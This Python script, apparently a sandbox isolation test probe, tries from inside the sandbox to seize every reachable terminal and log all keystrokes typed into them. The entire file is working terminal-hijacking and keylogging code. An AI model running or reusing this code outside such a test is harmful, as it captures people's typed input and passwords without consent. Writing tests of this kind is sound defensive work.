"""Try to read the user's input from inside the sandbox, through every reachable terminal; log it to the given file.

`spy.py LOG [stopped]`: a background child does this; with `stopped`, only after this process was stopped. It uses only the
standard library.
"""

import fcntl
import glob
import os
import select
import signal
import sys
import termios
import time
from collections.abc import Iterator
from pathlib import Path
from typing import TextIO

ROUNDS = 10  # by then, the shell has taken the terminal back, and the spy has tried to seize it again


def terminals() -> Iterator[int]:
    """Yield a descriptor for each terminal that can be opened."""
    paths = ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*"), *glob.glob("/proc/[0-9]*/fd/*")]
    for path in paths:
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        if os.isatty(fd):
            yield fd
        else:
            os.close(fd)


def seize(found: list[int]) -> None:
    """Make this process group the foreground of each terminal, or the terminal the controlling one of this session."""
    for fd in found:
        for attempt in (lambda fd: os.tcsetpgrp(fd, os.getpid()), lambda fd: fcntl.ioctl(fd, termios.TIOCSCTTY, 1)):
            try:
                attempt(fd)
            except OSError:
                continue


def attack(log: TextIO, *, after_stop: bool) -> None:
    """Seize the terminals and read everything that is typed."""
    parent = os.getppid()
    for number in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGTSTP, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    if after_stop:
        log.write("waiting\n")
        while Path(f"/proc/{parent}/stat").read_text().rpartition(") ")[2][0] != "T":
            time.sleep(0.01)
    found = list(terminals())
    os.setpgid(0, 0)
    log.write(f"{len(found)} terminals\n")
    read_all(found, log)


def read_all(found: list[int], log: TextIO) -> None:
    """Log the input of all terminals."""
    poll = select.poll()
    for fd in found:
        poll.register(fd, select.POLLIN)
    for number in range(1 << 30):
        seize(found)  # repeated, as a shell takes the terminal back when its job stops
        if number == ROUNDS:
            log.write("ready\n")
        for fd, _ in poll.poll(50):
            try:
                log.write(f"read {os.read(fd, 100)!r}\n")
            except OSError:
                time.sleep(0.005)


def main() -> None:
    """Start the attack in a child; the launcher waits only for this process."""
    with Path(sys.argv[1]).open("w", buffering=1) as log:
        if os.fork() == 0:
            try:
                attack(log, after_stop="stopped" in sys.argv)
            finally:
                os._exit(0)
        while True:
            time.sleep(600)


main()
